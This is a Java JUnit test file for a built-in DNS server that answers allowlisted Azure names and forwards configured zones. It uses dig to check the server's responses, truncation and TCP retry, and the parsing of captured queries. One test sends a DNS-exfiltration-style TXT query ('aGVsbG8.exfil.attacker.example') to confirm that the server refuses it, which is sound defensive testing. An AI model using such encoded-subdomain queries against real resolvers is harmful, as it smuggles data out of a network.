package lnm.dns;

import lnm.testing.Hex;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.regex.Pattern;
import lnm.testing.Lnm;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The built-in DNS server's checks, with the real {@code dig} (Debian dnsutils) as the client, and
 * real query bytes captured from dig and from the JDK's DNS client. Skipped, with the reason
 * printed, where dig is not installed ({@code bash .ci/install-test-deps.sh} installs it).
 */
class DigTest {
    static final InetAddress LO = InetAddress.getLoopbackAddress();
    static boolean haveDig;

    @TempDir
    Path dir;
    Lnm lnm;

    @BeforeAll
    static void findDig() {
        try {
            Process p = new ProcessBuilder("dig", "-v").redirectErrorStream(true).start();
            haveDig = p.waitFor(10, TimeUnit.SECONDS) && p.exitValue() == 0;
        } catch (IOException | InterruptedException e) {
            haveDig = false;
        }
        if (!haveDig) {
            System.out.println("DigTest: skipped, dig is not installed (Debian dnsutils; bash .ci/install-test-deps.sh)");
        }
    }

    static void needDig() {
        Assumptions.assumeTrue(haveDig, "dig is not installed (Debian dnsutils; run bash .ci/install-test-deps.sh as root)");
    }

    @AfterEach
    void stop() {
        if (lnm != null) {
            lnm.close();
        }
    }

    int start(String... dnsLines) throws Exception {
        lnm = Lnm.start(dir, DnsServerIntegrationTest.config(dnsLines), DnsServerIntegrationTest.ALLOWLIST);
        return lnm.app.dns().tcpAddress().orElseThrow().getPort();
    }

    /** Runs dig and returns its output; every line is echoed to the test output too. */
    static String dig(String... args) throws Exception {
        List<String> cmd = new ArrayList<>(List.of("dig", "+tries=1", "+time=3"));
        cmd.addAll(Arrays.asList(args));
        Process p = new ProcessBuilder(cmd).redirectErrorStream(true).start();
        byte[] out = p.getInputStream().readAllBytes();
        assertTrue(p.waitFor(20, TimeUnit.SECONDS), "dig did not finish");
        String s = new String(out, StandardCharsets.UTF_8);
        System.out.println("$ " + String.join(" ", cmd) + "\n" + s);
        return s;
    }

    static void assertLine(String out, String regex) {
        assertTrue(Pattern.compile(regex, Pattern.MULTILINE).matcher(out).find(), "no line matching /" + regex + "/ in:\n" + out);
    }

    @Test
    void allowlistedNameAnswersTheBoxAddress() throws Exception {
        needDig();
        int port = start();
        String out = dig("@127.0.0.1", "-p", "" + port, "management.azure.com", "A");
        assertLine(out, "status: NOERROR");
        assertLine(out, "flags: qr aa rd; QUERY: 1, ANSWER: 1, AUTHORITY: 0, ADDITIONAL: 1");
        assertLine(out, "^management\\.azure\\.com\\.\\s+60\\s+IN\\s+A\\s+127\\.0\\.0\\.1$");
        assertLine(out, "EDNS: version: 0, flags:; udp: 1232");
        String wild = dig("@127.0.0.1", "-p", "" + port, "+short", "Edge-7.His.Arc.Azure.Com");
        assertEquals("127.0.0.1", wild.trim());
    }

    @Test
    void otherNameIsRefused() throws Exception {
        needDig();
        int port = start();
        String out = dig("@127.0.0.1", "-p", "" + port, "example.org");
        assertLine(out, "status: REFUSED");
        assertLine(out, "ANSWER: 0");
    }

    @Test
    void overTcp() throws Exception {
        needDig();
        int port = start();
        String out = dig("@127.0.0.1", "-p", "" + port, "+tcp", "management.azure.com", "A");
        assertLine(out, "status: NOERROR");
        assertLine(out, "^management\\.azure\\.com\\.\\s+60\\s+IN\\s+A\\s+127\\.0\\.0\\.1$");
        assertLine(out, "SERVER: 127\\.0\\.0\\.1#" + port + "\\(127\\.0\\.0\\.1\\) \\(TCP\\)");
    }

    @Test
    void aaaaAndOtherTypes() throws Exception {
        needDig();
        int port = start("dns.answer = 10.4.0.10, fd00::10", "dns.ttl = 300");
        assertLine(dig("@127.0.0.1", "-p", "" + port, "management.azure.com", "AAAA"),
                "^management\\.azure\\.com\\.\\s+300\\s+IN\\s+AAAA\\s+fd00::10$");
        String mx = dig("@127.0.0.1", "-p", "" + port, "management.azure.com", "MX");
        assertLine(mx, "status: NOERROR");
        assertLine(mx, "ANSWER: 0, AUTHORITY: 0");
    }

    @Test
    void answerLargerThan512GetsTcThenDigRetriesOverTcp() throws Exception {
        needDig();
        StringBuilder many = new StringBuilder();
        for (int i = 1; i <= 40; i++) {
            many.append(i > 1 ? ", " : "").append("10.9.0.").append(i);
        }
        int port = start("dns.answer = " + many);
        String tc = dig("@127.0.0.1", "-p", "" + port, "+noedns", "+ignore", "management.azure.com", "A");
        assertLine(tc, "flags: qr aa tc rd; QUERY: 1, ANSWER: 0");
        String edns512 = dig("@127.0.0.1", "-p", "" + port, "+bufsize=512", "+ignore", "management.azure.com", "A");
        assertLine(edns512, "flags: qr aa tc rd; QUERY: 1, ANSWER: 0, AUTHORITY: 0, ADDITIONAL: 1");
        String retried = dig("@127.0.0.1", "-p", "" + port, "+noedns", "management.azure.com", "A");
        assertLine(retried, "Truncated, retrying in TCP mode");
        assertLine(retried, "ANSWER: 40");
        assertLine(retried, "\\(TCP\\)");
    }

    @Test
    void forwardedToTheUpstream() throws Exception {
        needDig();
        try (FakeUpstream up = new FakeUpstream()) {
            int port = start("dns.upstream = 127.0.0.1:" + up.port(), "dns.forwardZones = plant.local");
            String out = dig("@127.0.0.1", "-p", "" + port, "historian.plant.local");
            assertLine(out, "flags: qr rd ra;");
            assertLine(out, "^historian\\.plant\\.local\\.\\s+30\\s+IN\\s+A\\s+192\\.0\\.2\\.53$");
            String exfil = dig("@127.0.0.1", "-p", "" + port, "TXT", "aGVsbG8.exfil.attacker.example");
            assertLine(exfil, "status: REFUSED");
            assertEquals(1, up.received.size(), "a name outside dns.forwardZones never reaches the upstream");
        }
    }

    /** Captures the first datagram a client sends to a socket standing in for a server. */
    static byte[] capture(ThrowingConsumer<Integer> client) throws Exception {
        try (DatagramSocket s = new DatagramSocket(0, LO)) {
            s.setSoTimeout(5000);
            Thread t = new Thread(() -> {
                try {
                    client.accept(s.getLocalPort());
                } catch (Exception e) {
                    // the client times out: nobody answers
                }
            });
            t.setDaemon(true);
            t.start();
            DatagramPacket p = new DatagramPacket(new byte[2048], 2048);
            try {
                s.receive(p);
            } catch (SocketTimeoutException e) {
                return null;
            }
            return Arrays.copyOf(p.getData(), p.getLength());
        }
    }

    interface ThrowingConsumer<T> {
        void accept(T t) throws Exception;
    }

    @Test
    void liveDigQueryParses() throws Exception {
        needDig();
        byte[] q = capture(port -> dig("@127.0.0.1", "-p", "" + port, "+time=1", "Management.Azure.com", "AAAA"));
        assertNotNull(q);
        DnsMessage m = DnsClient.parse(q);
        assertEquals("Management.Azure.com", m.question().name().text());
        assertEquals(DnsCodes.TYPE_AAAA, m.question().type());
        assertNotNull(m.edns(), Hex.of(q));
        assertEquals(1232, m.edns().payloadSize());
    }

    @Test
    void liveJdkQueryParses() throws Exception {
        byte[] q = capture(port -> {
            java.util.Hashtable<String, String> env = new java.util.Hashtable<>();
            env.put(javax.naming.Context.INITIAL_CONTEXT_FACTORY, "com.sun.jndi.dns.DnsContextFactory");
            env.put(javax.naming.Context.PROVIDER_URL, "dns://127.0.0.1:" + port);
            env.put("com.sun.jndi.dns.timeout.initial", "300");
            env.put("com.sun.jndi.dns.timeout.retries", "1");
            new javax.naming.directory.InitialDirContext(env).getAttributes("x.his.arc.azure.com", new String[] {"AAAA"});
        });
        assertNotNull(q);
        DnsMessage m = DnsClient.parse(q);
        assertEquals("x.his.arc.azure.com", m.question().name().text());
        assertEquals(DnsCodes.TYPE_AAAA, m.question().type());
        assertNull(m.edns());
        assertEquals(DnsMessage.RD, m.flags());
    }
}
